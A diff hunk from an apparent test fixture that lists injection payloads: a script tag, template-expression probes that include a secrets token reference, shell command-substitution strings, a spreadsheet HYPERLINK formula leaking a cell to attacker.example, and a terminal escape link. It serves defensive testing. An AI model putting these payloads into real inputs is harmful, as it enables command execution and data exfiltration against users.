@@ -180,7 +180,7 @@ INJECTIONS: dict[str, str] = {
     "template raw block": "{% raw %}<script>alert(1)</script>{% endraw %}",
     "template in a line": "# for x in y",
     "template of another engine": "${7*7} #{7*7} <%= 7*7 %> ${{ secrets.TOKEN }} [[ 7*7 ]]",
-    "shell": "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x",
+    "shell": "$(touch hostile) `touch hostile` ; touch hostile",
     "formula of a spreadsheet": '=HYPERLINK("https://attacker.example/"&A1,"x")',
     "escape sequence of a terminal": "\u001b]8;;https://attacker.example/\u0007x\u001b]8;;\u0007",
     "carriage return": "Section 2.8\rSection 8.2",
